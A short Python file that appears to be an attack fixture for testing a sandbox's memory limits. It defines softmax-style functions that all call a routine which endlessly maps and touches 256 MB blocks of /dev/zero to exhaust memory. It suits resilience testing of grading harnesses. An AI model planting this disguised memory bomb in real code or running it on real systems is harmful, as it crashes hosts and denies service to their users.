# attack: Takes memory that no limit on data sees: shared, mapped, of no file that has a size.
# exercise: 02, reason: memory, timeout: 20
# says: memory
import mmap
import os


def act(*_):
    held, zeros = [], os.open("/dev/zero", os.O_RDWR)
    while True:
        block = mmap.mmap(zeros, 256 << 20)
        for at in range(0, len(block), 4096):
            block[at] = 1
        held.append(block)


def softmax(z, axis=-1):
    return act(z)


def softmax_jacobian(z):
    return act(z)


def softmax_vjp(z, grad):
    return act(z, grad)


def jacobian_norm(z):
    return act(z)
